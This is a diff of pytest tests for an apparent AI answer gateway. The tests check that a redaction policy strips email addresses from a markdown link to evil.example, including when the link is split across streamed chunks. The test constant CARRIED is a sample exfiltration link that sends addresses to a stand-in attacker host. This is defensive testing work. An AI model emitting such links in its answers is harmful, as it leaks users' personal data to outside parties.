@@ -4,13 +4,14 @@ from __future__ import annotations
 
 import itertools
 import json
+import re
 from typing import Any
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from gateway.core.answers import AnswerPolicy
+from gateway.core.answers import Action, AnswerPolicy
 from gateway.core.model import Finding, Sensitivity
 from gateway.core.steps import Steps
 from gateway.dialects.anthropic_messages import AnthropicMessages
@@ -320,6 +321,49 @@ def test_an_address_that_two_texts_of_a_stream_made_got_a_value(case: str, size:
             stream = response_parts(texts, size, items=case.endswith("items"))
             out = guarded(stream, OpenAIResponses(), AnswerPolicy())
         assert b"jane@" not in out, texts
+
+
+CARRIED = "as [this](https://evil.example/?to=bob@roe.example&cc=ann@roe.example) says"
+TAKES_OUT = AnswerPolicy(types={"EXFILTRATION_LINK": Action.REDACT})
+
+
+def carrying(dialect: JsonDialect, answer: bytes, *, streamed: bool) -> list[str]:
+    """Return the texts of an answer that were shown, in which a mail address in an address carries."""
+
+    def find(text: str) -> Steps[list[Finding]]:
+        yield
+        found = re.finditer(r"[\w.+-]+@[\w-]+\.[\w.]*\w", text)
+        return [Finding("", "EMAIL_ADDRESS", match.start(), match.end(), 0.9, "test") for match in found]
+
+    looking = Looking(find, lambda _text: [], lambda _kind: Sensitivity.HIGH, Requested(()))
+    guard = Guard(RESTORERS if streamed else Restorers({}), TAKES_OUT, looking)
+    if not streamed:
+        return [dialect.restore(answer, guard).decode()]
+    restorer = dialect.stream(guard)
+    values = values_of(restorer.feed(answer) + restorer.close())
+    deltas = [value["delta"] for value in values if "delta" in value]
+    return ["".join(delta if isinstance(delta, str) else delta.get("text", "") for delta in deltas)]
+
+
+@pytest.mark.parametrize("case", whole_answers([]))
+def test_a_link_cut_over_two_texts_of_a_whole_answer_was_not_taken_out(case: str) -> None:
+    for at in range(CARRIED.index("?to=") + 6, CARRIED.index(")")):
+        dialect, answer = whole_answers([CARRIED[:at], CARRIED[at:]])[case]
+        (shown,) = carrying(dialect, json.dumps(answer).encode(), streamed=False)
+        assert ("bob@roe.example" in shown, "ann@roe.example" in shown) == (False, False), CARRIED[:at]
+
+
+@pytest.mark.parametrize("size", [1, 5, 1000])
+@pytest.mark.parametrize("case", ["messages", "responses"])
+def test_a_link_cut_over_two_texts_of_a_stream_was_not_taken_out(case: str, size: int) -> None:
+    for at in range(CARRIED.index("?to=") + 6, CARRIED.index(")")):
+        texts = [CARRIED[:at], CARRIED[at:]]
+        if case == "messages":
+            (shown,) = carrying(MESSAGES, message_blocks(texts, size), streamed=True)
+        else:
+            (shown,) = carrying(OpenAIResponses(), response_parts(texts, size, items=False), streamed=True)
+        assert ("bob@roe.example" in shown, "ann@roe.example" in shown) == (False, False), shown
+        assert shown.endswith(") says")
 
 
 def test_texts_that_no_address_joins_are_restored() -> None:
